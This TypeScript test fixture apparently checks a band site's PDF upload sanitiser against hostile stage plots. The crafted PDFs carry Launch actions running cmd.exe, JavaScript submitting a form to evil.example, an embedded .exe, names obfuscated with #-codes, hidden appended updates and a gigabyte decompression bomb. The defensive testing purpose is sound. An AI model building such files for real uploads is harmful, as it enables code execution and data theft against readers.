// Stage plots written as an attacker with a band member's account would write them: every way a PDF can carry
// something a reader runs or opens (scripts, actions, forms, files inside, links), spelt the ways a check by names
// misses (names in #-codes, filters in arrays or #-codes, predictors, a stream after a lone CR, an update appended
// after a clean file), and files that cost a reader too much (a page that inflates to a gigabyte, a picture of 144
// megapixels), or that only open with a key. The site publishes each one drawn anew, or refuses it.
import { createHash } from "crypto"
import { once } from "events"
import { createDeflate, deflateSync } from "zlib"
import { pdfOf } from "./edited-content"

/** What any of the hostile parts below would say or reach, were it left in the published file. */
export const hostileMarks = [`app.alert`, `submitForm`, `evil.example`, `cmd.exe`, `calc`, `setlist.exe`]

const script = `app.alert\\(1\\); this.submitForm\\({cURL: "https://evil.example/"}\\)`
const scriptStream = () => {
  const text = `app.alert(1); this.submitForm({cURL: "https://evil.example/"})`
  return `<< /Length ${text.length} >>\nstream\n${text}\nendstream`
}

/** A stream of `text` under `filter`, written as `streamWord` (after "stream"), `text` packed as the filter says. */
function packed(text: string, filter: string, packedBytes: Buffer, streamWord = `stream\n`): Buffer {
  return Buffer.concat([
    Buffer.from(
      `<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${packedBytes.length} >>\n${streamWord}`,
      `latin1`,
    ),
    packedBytes,
    Buffer.from(`\nendstream`, `latin1`),
  ])
}

const launchObject = `7 0 << /S /Launch /F (cmd.exe) /P (/c calc) >>`
const hexOf = (bytes: Buffer) => Buffer.from(`${bytes.toString(`hex`)}>`, `latin1`)

/** `pages` pages of a drawing each, with `extra` added to the page of each number it names. */
function pagesPdf(pages: number, extra: Record<number, string> = {}, catalog = ``): Buffer {
  const stream = (words: string) => {
    const text = `BT /F1 24 Tf 72 720 Td (${words}) Tj ET`
    return `<< /Length ${text.length} >>\nstream\n${text}\nendstream`
  }
  const bodies: string[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, page) => `${4 + page * 2} 0 R`).join(` `)}] /Count ${pages} >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
  ]
  for (let page = 1; page <= pages; page++) {
    bodies.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${5 + (page - 1) * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> ${extra[page] ?? ``}>>`,
      stream(`Stage plot, page ${page}`),
    )
  }
  return withTable(bodies.map((body) => Buffer.from(body, `latin1`)))
}

/** Objects 1, 2, ... written with a cross-reference table that gives each its place, and `trailer` added. */
function withTable(bodies: Buffer[], trailer = ``, start = `%PDF-1.4\n`): Buffer {
  const chunks: Buffer[] = [Buffer.from(start, `latin1`)]
  let length = chunks[0]!.length
  const offsets = bodies.map((body, index) => {
    const offset = length
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from(`\nendobj\n`)])
    chunks.push(object)
    length += object.length
    return offset
  })
  chunks.push(
    Buffer.from(
      `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, `0`)} 00000 n \n`).join(``)}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n`,
      `latin1`,
    ),
  )
  return Buffer.concat(chunks)
}

/**
 * A clean file, then an update appended after its end as PDF editors save changes: the catalog written again with an
 * action run when the file opens, and a cross-reference section pointing back to the first.
 */
function withHiddenUpdate(): Buffer {
  const clean = pdfOf({})
  const previous = Number(/startxref\n(\d+)/.exec(clean.toString(`latin1`))![1])
  const catalog = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script}) >> >>\nendobj\n`
  const at = clean.length
  const table = at + catalog.length
  const update = `${catalog}xref\n0 1\n0000000000 65535 f \n1 1\n${String(at).padStart(10, `0`)} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${table}\n%%EOF\n`
  return Buffer.concat([clean, Buffer.from(update, `latin1`)])
}

// ---- Encryption: the standard security handler, revision 2 (RC4, 40-bit keys), as old PDF writers wrote it ----

const padding = Buffer.from(`28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A`, `hex`)

function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index)
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + state[i]! + key[i % key.length]!) & 255
    ;[state[i], state[j]] = [state[j]!, state[i]!]
  }
  const out = Buffer.alloc(data.length)
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 255
    j = (j + state[i]!) & 255
    ;[state[i], state[j]] = [state[j]!, state[i]!]
    out[n] = data[n]! ^ state[(state[i]! + state[j]!) & 255]!
  }
  return out
}

const md5 = (...parts: Buffer[]) => createHash(`md5`).update(Buffer.concat(parts)).digest()
const padded = (password: string) => Buffer.concat([Buffer.from(password, `latin1`), padding]).subarray(0, 32)

/** A file whose /Encrypt says RC4-40 with `userPassword` (empty: any reader opens it without asking). */
function encrypted(userPassword: string): Buffer {
  const id = Buffer.from(`00112233445566778899aabbccddeeff`, `hex`)
  const permissions = -4
  const owner = rc4(md5(padded(`owner`)).subarray(0, 5), padded(userPassword))
  const p = Buffer.alloc(4)
  p.writeInt32LE(permissions)
  const key = md5(padded(userPassword), owner, p, id).subarray(0, 5)
  const user = rc4(key, padding)
  const hex = (bytes: Buffer) => `<${bytes.toString(`hex`)}>`
  const bodies = pdfOf({}).toString(`latin1`)
  // The same five objects as pdfOf's, and the security handler's as a sixth.
  const objects = [...bodies.matchAll(/\d+ 0 obj\n([\s\S]*?)\nendobj\n/g)].map(([, body]) =>
    Buffer.from(body!, `latin1`),
  )
  objects.push(
    Buffer.from(
      `<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P ${permissions} >>`,
      `latin1`,
    ),
  )
  return withTable(objects, `/Encrypt ${objects.length} 0 R /ID [${hex(id)} ${hex(id)}] `)
}

/** A picture on page 1 of `width`×`height` RGB pixels, all light grey. */
async function pictureOnPage(width: number, height: number): Promise<Buffer> {
  const bytes = await packedRepeats(Buffer.alloc(width * 3, 200), height)
  return pdfOf({
    page: `/Resources << /XObject << /Im1 6 0 R >> >> /Contents 7 0 R`,
    objects: [
      Buffer.concat([
        Buffer.from(
          `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n`,
        ),
        bytes,
        Buffer.from(`\nendstream`),
      ]),
      `<< /Length 32 >>\nstream\nq 612 0 0 792 0 0 cm /Im1 Do Q  \nendstream`,
    ],
  })
}

/** `part` `times` over, packed with Flate a part at a time (never all of it in memory). */
async function packedRepeats(part: Buffer, times: number): Promise<Buffer> {
  const packer = createDeflate({ level: 9 })
  const chunks: Buffer[] = []
  packer.on(`data`, (chunk: Buffer) => chunks.push(chunk))
  for (let written = 0; written < times; written++) {
    if (!packer.write(part)) await once(packer, `drain`)
  }
  packer.end()
  await once(packer, `end`)
  return Buffer.concat(chunks)
}

/** Page 2 draws a stream that inflates to a gigabyte of drawing commands, from a file under a megabyte. */
async function gigabytePage(): Promise<Buffer> {
  // A gigabyte of `0 0 m ` (a drawing command).
  const bytes = await packedRepeats(Buffer.alloc(1_000_002, `0 0 m `), 1000)
  const page2 = Buffer.concat([
    Buffer.from(`<< /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from(`\nendstream`),
  ])
  const first = pagesPdf(2).toString(`latin1`)
  const objects = [...first.matchAll(/\d+ 0 obj\n([\s\S]*?)\nendobj\n/g)].map(([, body]) =>
    Buffer.from(body!, `latin1`),
  )
  objects[6] = page2
  return withTable(objects)
}

/** What the site does with a file: publishes it drawn anew, or refuses it, and why. */
export type HostileOutcome = `rebuilt` | `encrypted` | `pages` | `tooMuch`

export interface HostilePdf {
  name: string
  bytes: () => Buffer | Promise<Buffer>
  outcome: HostileOutcome
}

const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << ${action} >> >>]`

export const hostilePdfs: HostilePdf[] = [
  {
    name: `an action run when it opens that starts a program (Launch cmd.exe /c calc)`,
    bytes: () => pdfOf({ catalog: `/OpenAction << /S /Launch /F (cmd.exe) /P (/c calc) >>` }),
    outcome: `rebuilt`,
  },
  {
    name: `a page-1 link running this.submitForm to an outside address`,
    bytes: () => pdfOf({ page: link(`/S /JavaScript /JS (${script})`) }),
    outcome: `rebuilt`,
  },
  {
    name: `JavaScript run when page 8 of 8 opens`,
    bytes: () => pagesPdf(8, { 8: `/AA << /O << /S /JavaScript /JS (${script}) >> >>` }),
    outcome: `rebuilt`,
  },
  {
    name: `an XFA form with a <script>`,
    bytes: () =>
      pdfOf({
        catalog: `/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true`,
        objects: [
          `<< /Length 125 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><script>app.alert(1)</script></subform></template></xdp:xdp>\nendstream`,
        ],
      }),
    outcome: `rebuilt`,
  },
  {
    name: `a 3D annotation whose /OnInstantiate runs a script`,
    bytes: () =>
      pdfOf({
        page: `/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 612 792] /3DD << /Type /3D /Subtype /U3D /OnInstantiate 6 0 R /Length 0 >> >>]`,
        objects: [scriptStream()],
      }),
    outcome: `rebuilt`,
  },
  {
    name: `a clean first version with an update appended that runs JavaScript when it opens`,
    bytes: withHiddenUpdate,
    outcome: `rebuilt`,
  },
  {
    name: `JavaScript under names written in #-codes (/J#61vaScript, /S /J#61v#61Script)`,
    bytes: () =>
      pdfOf({
        catalog: `/Names << /J#61vaScript << /Names [(x) << /S /J#61v#61Script /JS (${script}) >>] >> >>`,
      }),
    outcome: `rebuilt`,
  },
  {
    name: `a Launch action in an object stream under /Fl#61teDecode`,
    bytes: () =>
      pdfOf({ objects: [packed(launchObject, `/Filter /Fl#61teDecode`, deflateSync(launchObject))] }),
    outcome: `rebuilt`,
  },
  {
    name: `a Launch action in an object stream under [/ASCIIHexDecode /FlateDecode]`,
    bytes: () =>
      pdfOf({
        objects: [
          packed(launchObject, `/Filter [/ASCIIHexDecode /FlateDecode]`, hexOf(deflateSync(launchObject))),
        ],
      }),
    outcome: `rebuilt`,
  },
  {
    name: `a Launch action in an object stream with /Predictor 12, after "stream" and a lone CR`,
    bytes: () => {
      // PNG "up" prediction of one column: each row a filter byte, then the byte itself.
      const rows = Buffer.concat(
        [...Buffer.from(launchObject, `latin1`)].map((byte) => Buffer.from([0, byte])),
      )
      return pdfOf({
        objects: [
          packed(
            launchObject,
            `/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>`,
            deflateSync(rows),
            `stream\r`,
          ),
        ],
      })
    },
    outcome: `rebuilt`,
  },
  {
    name: `a file inside it (EmbeddedFiles) and a file attached to page 1`,
    bytes: () =>
      pdfOf({
        catalog: `/Names << /EmbeddedFiles << /Names [(setlist.exe) 6 0 R] >> >>`,
        page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] /FS 6 0 R >>]`,
        objects: [
          `<< /Type /Filespec /F (setlist.exe) /EF << /F 7 0 R >> >>`,
          `<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream`,
        ],
      }),
    outcome: `rebuilt`,
  },
  {
    name: `links that open another file, read data into a form, play a film, and reach an http address`,
    bytes: () =>
      pdfOf({
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (setlist.exe) /D [0 /Fit] >> >> << /Type /Annot /Subtype /Link /Rect [10 0 20 10] /A << /S /ImportData /F (calc) >> >> << /Type /Annot /Subtype /RichMedia /Rect [20 0 30 10] >> << /Type /Annot /Subtype /Link /Rect [30 0 40 10] /A << /S /URI /URI (http://evil.example/) >> >>]`,
      }),
    outcome: `rebuilt`,
  },
  {
    name: `a web page's tags in its first bytes`,
    bytes: () => pdfOf({ start: `%<html><body><script>app.alert(1)</script></body></html>\n` }),
    outcome: `rebuilt`,
  },
  {
    name: `encryption (RC4, 40-bit) with an empty password`,
    bytes: () => encrypted(``),
    outcome: `encrypted`,
  },
  { name: `encryption with a password to open it`, bytes: () => encrypted(`secret`), outcome: `encrypted` },
  // PDF.js counts the pages the tree holds, whatever it claims.
  {
    name: `a page tree that claims 200,000 pages`,
    bytes: () => pdfOf({ count: 200_000 }),
    outcome: `rebuilt`,
  },
  { name: `11 pages`, bytes: () => pagesPdf(11), outcome: `pages` },
  { name: `a page 2 whose drawing inflates to 1 GB`, bytes: gigabytePage, outcome: `tooMuch` },
  {
    name: `a 12000×12000 picture on page 1`,
    bytes: () => pictureOnPage(12_000, 12_000),
    outcome: `tooMuch`,
  },
]
